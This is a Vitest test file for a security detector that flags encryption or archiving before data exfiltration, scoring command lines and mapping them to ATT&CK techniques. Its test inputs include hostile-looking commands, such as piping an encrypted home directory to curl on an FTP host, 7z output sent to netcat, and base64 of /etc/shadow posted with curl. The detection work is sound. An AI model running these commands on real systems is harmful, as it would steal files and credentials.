import { describe, expect, it } from 'vitest';
import type { ProcessEvent } from '../../core/events.js';
import { AnomalyCounter } from '../../core/anomalies.js';
import type { Finding } from '../../core/findings.js';
import { options, seedEncryptionBeforeExfil } from './index.js';

let line = 0;
function proc(commandLine: string, extra: Partial<ProcessEvent> = {}): ProcessEvent {
  line++;
  return { kind: 'process', ts: 1_700_000_000 + line, host: 'WS01', source: { reader: 'test', path: 'p.jsonl', line }, process: { pid: 100 + line, command_line: commandLine }, ...extra };
}

let limits = new AnomalyCounter();
function run(events: ProcessEvent[], raw: unknown = {}): Finding[] {
  limits = new AnomalyCounter();
  const detector = seedEncryptionBeforeExfil.create(options.parse(raw), limits);
  const out: Finding[] = [];
  for (const e of events) detector.onEvent(e, (f) => out.push(f));
  detector.flush((f) => out.push(f));
  return out;
}
const one = (commandLine: string, raw?: unknown): Finding | undefined => run([proc(commandLine)], raw)[0];

describe('seed-encryption-before-exfil: the seed commands keep their scores', () => {
  it.each([
    ['openssl enc -aes-256-cbc -in data.tar -out data.enc', 9, 'T1048.001'],
    ['gpg -c data.tar', 9, 'T1048.001'],
    [`python -c 'import Crypto.Cipher.AES'`, 8, 'T1048.001'],
    ['certutil -encode data.zip data.txt', 8, 'T1027'],
  ])('%s → %i', (commandLine, risk, technique) => {
    const f = one(commandLine)!;
    expect(f.risk).toBe(risk);
    expect(f.technique).toBe(technique);
    expect(f.analytic).toBe('seed-encryption-before-exfil');
  });
});

describe('seed-encryption-before-exfil: as attackers write them', () => {
  it.each([
    ['"C:\\Program Files\\OpenSSL-Win64\\bin\\OPENSSL.EXE" ENC -in C:\\Users\\bob\\a.zip -AES-256-CBC -out a.bin -k x', 9],
    ['/usr/bin/openssl aes-256-cbc -salt -pbkdf2 -pass env:K -in /etc/shadow', 9],
    ['openssl enc -rc4 -nosalt -K 0102030405 -in x', 9],
    ['gpg --symmetric --batch --yes --passphrase hunter2 --cipher-algo AES256 /tmp/x.tar', 9],
    [`cmd.exe /c "C:\\Windows\\System32\\certutil.exe -f -encodehex C:\\t\\a.zip C:\\t\\a.hex 4"`, 8],
    [`/bin/bash -c "python3 -c \\"from Crypto.Cipher import AES\\""`, 8],
    ['7z.exe a -mhe=on -pP@ssw0rd C:\\ProgramData\\out.7z C:\\Users\\bob\\Documents', 9],
    ['zip -qr -P letmein /tmp/b.zip /home/bob', 7],
    ['ccrypt -e -K pass /tmp/dump.sql', 9],
  ])('%s → %i', (commandLine, risk) => {
    expect(one(commandLine)?.risk).toBe(risk);
  });

  it('adds the sent bonus and names the tool for tar | openssl | curl', () => {
    const f = one(`bash -c "tar czf - /home/bob | openssl enc -aes-256-cbc -pass pass:hunter22 | curl -T - ftp://203.0.113.7/drop"`)!;
    expect(f.risk).toBe(10);
    expect(f.technique).toBe('T1048.001');
    expect(f.details!.sent_with).toBe('curl');
    expect(f.reason).toContain('curl');
  });

  it('keeps the key candidate in details but masks it in the reason', () => {
    const f = one('openssl enc -aes-256-cbc -pass pass:CorrectHorseBattery -in a -out /tmp/a.enc')!;
    expect(f.details!.key_candidates).toEqual(['passphrase=CorrectHorseBattery']);
    expect(f.details!.outputs).toEqual(['/tmp/a.enc']);
    expect(f.reason).not.toContain('CorrectHorseBattery');
    expect(f.reason).toContain('Co… (19 chars)');
  });

  it('archives sent on count as T1048.001; kept on disk as T1560; encoding sent as T1048.003', () => {
    expect(one('7z a -pX /tmp/o.7z /srv')!.technique).toBe('T1560');
    expect(one('7z a -pX -so dummy.7z /srv | nc 203.0.113.5 4444')!.technique).toBe('T1048.001');
    expect(one('base64 -w0 /etc/shadow | curl -d @- http://x')!.technique).toBe('T1048.003');
  });

  it('marks findings from a PowerShell -EncodedCommand', () => {
    const enc = Buffer.from('$a=[System.Security.Cryptography.Aes]::Create(); $a.CreateEncryptor()', 'utf16le').toString('base64');
    const f = one(`powershell.exe -nop -w hidden -enc ${enc}`)!;
    expect(f.risk).toBe(8);
    expect(f.details!.encoded_powershell).toBe(true);
  });

  it('reads auditd-style argv when the event carries it', () => {
    const f = run([proc('openssl enc -aes-256-cbc -k a', { argv: ['gpg', '--symmetric', 'f'], process: { pid: 7, command_line: undefined } })])[0]!;
    expect(f.details!.forms).toEqual(['gpg-symmetric']);
  });
});

describe('seed-encryption-before-exfil: near misses stay silent', () => {
  it.each([
    'openssl dgst -sha256 a.bin',
    'openssl s_client -connect example.com:443',
    'gpg --verify release.sig release.tar',
    '7z x -pinfected sample.7z',
    'certutil -decode a.txt a.zip',
    'openssl enc -d -aes-256-cbc -in a.enc',
    'base64 logo.png > logo.txt',
    'tar czf backup.tgz /srv',
    'echo openssl enc -aes-256-cbc',
  ])('%s', (commandLine) => {
    expect(one(commandLine)).toBeUndefined();
  });
});

describe('seed-encryption-before-exfil: options and determinism', () => {
  it('takes scores and the bonus from config', () => {
    expect(one('gpg -c a', { scores: { 'gpg-symmetric': 5 } })!.risk).toBe(5);
    expect(one('openssl enc -aes-128-cbc | nc h 1', { sent_bonus: 0 })!.risk).toBe(9);
    expect(() => options.parse({ scores: { 'no-such-form': 1 } })).toThrow();
  });
  it('gives the same finding ID for the same event, and a different one for another process', () => {
    const e = proc('gpg -c a');
    expect(run([e])[0]!.id).toBe(run([e])[0]!.id);
    expect(run([e])[0]!.id).not.toBe(run([{ ...e, process: { ...e.process, pid: 9999 } }])[0]!.id);
  });
  it('cites the event as evidence', () => {
    const e = proc('gpg -c a');
    expect(run([e])[0]!.evidence).toEqual([{ ...e.source, note: 'process creation' }]);
  });
  it('trips the nesting cap and records it', () => {
    let cl = 'gpg -c a';
    for (let i = 0; i < 4; i++) cl = `sh -c ${JSON.stringify(cl)}`;
    expect(one(cl, { max_nesting_depth: 2 })).toBeUndefined();
    expect(limits.count('seed-encryption-before-exfil.max_nesting_depth')).toBe(1);
    expect(one(cl, { max_nesting_depth: 8 })!.risk).toBe(9);
    expect(limits.total).toBe(0);
    expect(one('gpg -c ' + 'a'.repeat(400), { max_command_line_length: 256 })!.details!.limits_hit).toEqual(['max_command_line_length']);
    expect(limits.count('seed-encryption-before-exfil.max_command_line_length')).toBe(1);
  });
});
